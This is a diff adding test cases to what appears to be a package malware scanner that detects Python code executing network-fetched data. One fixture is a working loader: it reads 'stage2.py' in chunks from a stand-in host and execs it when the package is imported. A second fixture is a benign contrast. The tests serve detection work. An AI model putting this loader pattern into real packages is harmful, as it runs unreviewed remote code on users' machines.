@@ -73,3 +73,37 @@ describe('a name appended to after it was bound', () => {
     expect(r.signals.find((x) => x.kind === 'exec-decoded'), JSON.stringify(r.signals)).toMatchObject({ file: 'appended_exec_demo/__init__.py', line: 4 });
   });
 });
+
+describe('Python: exec of code read in chunks from the network', () => {
+  const loader = (body: string[]) => {
+    const fx = remoteLoader('chunked-exec-demo');
+    fx.files['chunked_exec_demo/__init__.py'] = [...body, ''].join('\n');
+    return run(fx, 'pypi');
+  };
+
+  it('inside a function that reads the network, exec of what it appended is exec of fetched data', async () => {
+    const r = await loader([
+      'import urllib.request',
+      'def update():',
+      '    code = ""',
+      "    r = urllib.request.urlopen('http://cdn.loader.example/stage2.py', timeout=5)",
+      "    for chunk in iter(lambda: r.read(1024), b''):",
+      '        code += chunk.decode()',
+      '    exec(code)',
+      'update()',
+    ]);
+    expect(r.signals.find((x) => x.kind === 'exec-fetched'), JSON.stringify(r.signals)).toMatchObject({ file: 'chunked_exec_demo/__init__.py', line: 7 });
+  });
+
+  it("a function that downloads a file and execs a local file's text is not a loader", async () => {
+    const r = await loader([
+      'import urllib.request',
+      'def build():',
+      "    urllib.request.urlretrieve('https://github.com/o/r/releases/download/v1/tool.tar.gz', 'tool.tar.gz')",
+      '    ns = {}',
+      "    exec(open('chunked_exec_demo/version.py').read(), ns)",
+      '    return ns',
+    ]);
+    expect(r.signals.filter((x) => x.kind === 'exec-fetched')).toEqual([]);
+  });
+});
